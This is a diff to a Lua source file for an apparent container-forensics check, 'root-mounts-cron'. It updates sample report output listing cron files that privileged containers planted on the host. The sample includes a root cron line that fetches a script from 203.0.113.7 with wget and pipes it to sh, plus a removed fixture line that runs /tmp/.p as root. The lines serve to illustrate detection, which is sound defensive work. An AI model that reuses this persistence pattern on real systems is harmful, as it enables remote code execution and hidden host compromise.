@@ -79,26 +79,45 @@ whiteout run root-mounts-cron -e /mnt/host --arg host=lifetime
 whiteout run root-mounts-cron -e ./var-lib-docker     # data root only
 whiteout run root-mounts-cron -e /mnt/host --format json]],
   sample = report.unwrap [[
-$ whiteout run root-mounts-cron -e host --arg host=lifetime
-spool-ro (f74710247bf4) exited, created 2025-06-01 12:00:00.000Z
-  reach: binds host /var/spool/cron at /spool (read-only), reaching /var/spool/\
-cron
-  no writes found
+$ whiteout run root-mounts-cron -e build/sample-host
+intruder (55819102b216) exited, created 2026-12-01 09:14:05.123Z
+  reach: binds the host's / at /host (read-write); privileged; adds capability \
+SYS_ADMIN
+  WHERE  PATH                     FROM                INUM      SIZE  TIME     \
+                 LIFE  SHA256
+  host   /host/etc/cron.d/sample  /etc/cron.d/sample  11053112  8     2026-12-0\
+1 09:14:09.700Z  yes   60f97c7b5bf55c5f
+  host   /host/etc/crontab        /etc/crontab        11053111  65    2026-11-2\
+0 08:00:00.000Z  no    1873427947ceb99a
+  layer  /etc/crontabs/root       73f5bdf65a49        11059419  53    2026-12-0\
+1 09:14:09.000Z  yes   fe249d9366ad2fd1
+  --- /host/etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
+766434df9f1e1b9069db73a
+    planted
+  --- /host/etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
+0e92bb77e8533ef77
+    SHELL=/bin/sh
+    17 * * * * root cd / && run-parts /etc/cron.hourly
+  --- /etc/crontabs/root  sha256 fe249d9366ad2fd17469ddfdb580e5e84ffb5cf564f777\
+f29157da31fc018df7
+    */5 * * * * wget -q -O- http://203.0.113.7/x.sh | sh
 
-etc-binder (329cf4569742) exited, created 2025-06-01 10:00:00.000Z
-  reach: binds host /etc at /hostetc (read-write), reaching /etc/crontab /etc/a\
+etc-reader (736ed6a1b647) exited, created 2026-12-01 09:13:00.000Z
+  reach: binds host /etc at /host-etc (read-only), reaching /etc/crontab /etc/a\
 nacrontab /etc/cron.d and 7 more cron places
-  WHERE  PATH                     FROM                 INUM      SIZE  TIME    \
-                  LIFE  SHA256
-  host   /hostetc/cron.d/planted  /etc/cron.d/planted  10995480  43    2025-06-\
-01 10:00:02.000Z  yes   10e56e8127fe86ff
-  log    -                        -                                    2025-06-\
-01 10:00:02.100Z  yes   -
-  --- /hostetc/cron.d/planted  sha256 10e56e8127fe86ff6ec59792a69541d237337cd0d\
-28e1e6992ab2cc1e6632105
-    * * * * * root /tmp/.p # FIXTURE-HOST-CRON
-  --- log 2025-06-01 10:00:02.100Z stdout
-    installed /hostetc/cron.d/planted
+  WHERE  PATH                     FROM                INUM      SIZE  TIME     \
+                 LIFE  SHA256
+  host   /host-etc/cron.d/sample  /etc/cron.d/sample  11053112  8     2026-12-0\
+1 09:14:09.700Z  no    60f97c7b5bf55c5f
+  host   /host-etc/crontab        /etc/crontab        11053111  65    2026-11-2\
+0 08:00:00.000Z  no    1873427947ceb99a
+  --- /host-etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
+766434df9f1e1b9069db73a
+    planted
+  --- /host-etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
+0e92bb77e8533ef77
+    SHELL=/bin/sh
+    17 * * * * root cd / && run-parts /etc/cron.hourly
 ]],
   applies = function(ev) return #ev.roots > 0 end,
   run = run,
